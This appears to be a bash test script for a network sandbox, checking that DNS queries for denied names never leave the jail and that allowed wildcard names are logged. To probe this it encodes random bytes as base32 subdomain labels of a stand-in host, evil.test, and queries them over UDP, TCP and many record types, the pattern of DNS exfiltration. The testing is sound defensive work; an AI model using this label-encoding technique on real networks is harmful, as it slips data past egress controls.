#!/bin/bash
# Rows 111 to 114: no query of a denied name leaves, of any type and to any server; an allowed pattern lets labels out, and each is on record.
# shellcheck source-path=SCRIPTDIR disable=SC2016  # what a jailed shell expands
. "$(dirname "${BASH_SOURCE[0]}")/lib.sh"
netns_run "$@"
need_nsgate
need_command dig

start_dns --local=/test/ --host-record=ok.test,"$PUB4" --txt-record=ok.test,secret \
	--mx-host=ok.test,other.test,1 --address=/wild.test/"$PUB4"
server banner 22
own_addresses 8.8.8.8 2001:4860:4860::8888
printf 'nameserver %s\n' "$DNS4" >"$T/resolv.conf"
printf '127.0.0.1 localhost\n' >"$T/hosts" # names come from the DNS server alone
seen() # PATTERN: how many queries the server has seen
{
	grep -c "query\[.*$1" "$T/dns.log" || true
}
data=$(head -c 30 /dev/urandom | base32 -w 0 | tr -d = | tr '[:upper:]' '[:lower:]')

run dig +short "$data.evil.test" "@$DNS4"
expect_eq "$(seen "$data")" 1 'queries without a jail'

# ---- rows 111 and 114: libc, dig, busybox; UDP and TCP; whatever server
watch_packets
for words in "dig +tries=1 +time=2" "dig +tcp +tries=1 +time=2" "dig @8.8.8.8 +tries=1 +time=2" "dig @8.8.8.8 +tcp +tries=1 +time=2" \
	"dig @2001:4860:4860::8888 +tries=1 +time=2" "dig @$DNS4 +tries=1 +time=2" "getent hosts" "nslookup"; do
	for options in "" "--dns real --dns-type TXT"; do
		# shellcheck disable=SC2086  # words
		jailed "${POLICY[@]}" $options -- $words "$data.evil.test"
		expect_match "$(queries | sort -u)" "^deny no-rule $data\\.evil\\.test A" "$words $options"
		[[ $words != dig* ]] || expect_match "$OUT" 'status: NXDOMAIN'
		expect_at_once
	done
done
jailed --dns dummy "${POLICY[@]}" -- dig +short "$data.evil.test"
expect_eq "$OUT" 6.6.6.6 'dns: dummy'
expect_silence

# ---- row 113: every type, of a denied name and of an allowed one; what HTTPS would say stays unsaid
for mode in synthetic real; do
	jailed "${POLICY[@]}" --dns "$mode" -- sh -c 'for type in TXT NULL MX SRV CNAME ANY HTTPS SVCB NS SOA NAPTR DNSKEY AXFR TYPE65280; do
		dig +tcp +tries=1 +time=2 +noall +comments +answer evil.test $type | grep -o "status: [A-Z]*\|ANSWER: [0-9]*"
		dig +notcp +tries=1 +time=2 +noall +comments +answer ok.test $type | grep -o "status: [A-Z]*\|ANSWER: [0-9]*"
	done | sort | uniq -c'
	expect_match "$OUT" 'ANSWER: 0' "$mode"
	expect_no_match "$OUT" 'ANSWER: [1-9]|status: SERVFAIL' "$mode"
done
expect_silence
jailed "${POLICY[@]}" --dns-type TXT -- dig +short ok.test TXT
expect_eq "$OUT" '"secret"' 'a type that the policy wants'
expect_packets

# ---- row 112: labels below an allowed name
watch_packets
jailed --allow domain=wild.test -- dig +tries=1 +time=2 "$data.wild.test"
expect_match "$OUT" 'status: NXDOMAIN' 'a policy of exact names'
jailed --allow 'domain=*.wild.test' -- sh -c 'for i in 1 2 3; do dig +short $i.$0.wild.test; done' "$data"
expect_eq "$(wc -l <<<"$OUT")/$(queries | wc -l)" 3/3 'a record for each label'
expect_silence # looked up when it is dialled, not before
before=$(seen "$data.wild.test")
jailed --allow 'domain=*.wild.test' -- bash -c "$EACH_NAME" 22 "$data.wild.test"
[[ $(seen "$data.wild.test") -gt $before ]] || fail 'the residual is none any more: a label did not go out'
expect_eq "$(records)" "allow allow-rule $data.wild.test 22" 'and it is on record'
